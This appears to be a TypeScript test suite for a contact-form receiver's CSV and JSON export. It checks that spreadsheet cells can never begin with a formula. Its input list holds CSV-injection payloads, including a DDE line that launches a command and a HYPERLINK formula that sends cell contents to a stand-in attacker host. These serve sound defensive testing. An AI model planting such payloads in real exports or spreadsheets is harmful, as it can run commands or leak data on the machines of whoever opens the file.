import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { toCsv, toJson } from '../../../tools/receiver/export.js';
import { exampleRequest } from './example.js';

const stored = (changes: Parameters<typeof exampleRequest>[0], suspect: 'trap' | 'haste' | null = null) => ({
  reference: 'KT-2027-0042',
  received: new Date('2027-02-01T09:12:03Z'),
  suspect,
  request: exampleRequest({ id: '2f1c0f5e-0000-4000-8000-000000000000', ...changes }),
});
/** The cells of CSV, read as RFC 4180 says. */
function cells(csv: string): string[][] {
  assert.ok(csv.startsWith('\ufeff') && csv.endsWith('\r\n'));
  const rows: string[][] = [[]];
  const rest = csv
    .slice(1, -2)
    .replace(/("(?:[^"]|"")*"|[^,"\r\n]*)(,|\r\n|$)/g, (_all, cell: string, end: string) => {
      if (rows.at(-1)!.length < 30 && (end || cell)) {
        rows.at(-1)!.push(cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell);
      }
      if (end === '\r\n') rows.push([]);
      return '';
    });
  assert.equal(rest, '');
  return rows;
}

describe('the CSV', () => {
  it('has a line of names and one for each request', () => {
    const csv = toCsv([stored({ message: 'Zeile "eins",\nzwei; ü' }, 'haste')]);
    assert.equal(
      csv,
      '\ufeffNummer,Eingang,Zurückgestellt,Einrichtung,Art,Name,E-Mail,Telefon,Antwort per,Erreichbar,Themen,' +
        'Angebote,Zielgruppen,Sprache,Seite,Nachricht,Kennung\r\n' +
        'KT-2027-0042,2027-02-01 10:12,sehr schnell gesendet,Kita im Stadtteil,kindergarten,,leitung@kita.example,,' +
        'Telefon,"Dienstag, vormittags",intercultural-opening,,,ru,https://partner.example/kontakt,' +
        '"Zeile ""eins"",\nzwei; ü",2f1c0f5e-0000-4000-8000-000000000000\r\n',
    );
  });

  for (const formula of [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?"&A1,"x")',
    '+49 211 123',
    '-2+3+cmd',
    '@SUM(1+1)*cmd',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '  =1+1',
    '\u00a0=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(1)',
    '\u0000=1+1',
    '\u200b=1+1',
    '",=1+1,"',
  ]) {
    it(`never has a formula: ${JSON.stringify(formula)}`, () => {
      const texts = { organization: { name: formula }, message: formula, topics: [formula], page: formula };
      const [, row] = cells(toCsv([stored(texts)]));
      assert.equal(row!.length, 17);
      for (const cell of row!) assert.doesNotMatch(cell, /^[\s\u200b]*[=+\-@＝＋－＠]/);
    });
  }

  it('keeps lines apart whatever is in them', () => {
    const odd = ['a\r\nb', 'a\rb', '"', ',', '""', "'", '\u2028'].map((message) => stored({ message }));
    assert.deepEqual(new Set(cells(toCsv(odd)).map((row) => row.length)), new Set([17]));
  });

  it('has names from the feed beside the ids, and no formula by them', () => {
    const names = {
      kinds: new Map([['kindergarten', '=1+1']]),
      topics: new Map([['intercultural-opening', 'Öffnung, „interkulturell“']]),
      projects: new Map<string, string>(),
      audiences: new Map<string, string>(),
    };
    const [, row] = cells(toCsv([stored({})], names));
    assert.deepEqual(
      [row![4], row![10]],
      ["'=1+1 (kindergarten)", 'Öffnung, „interkulturell“ (intercultural-opening)'],
    );
  });

  it('of nothing has its line of names', () =>
    assert.match(toCsv([]), /^\ufeffNummer,Eingang,.*,Kennung\r\n$/));
});

describe('the JSON', () => {
  it('has every request to the letter', () => {
    const one = stored({ message: '=1+1 \u202e\ud800\r\n' }, 'trap');
    assert.deepEqual(JSON.parse(toJson([one])), [{ ...one, received: '2027-02-01T09:12:03.000Z' }]);
  });
});
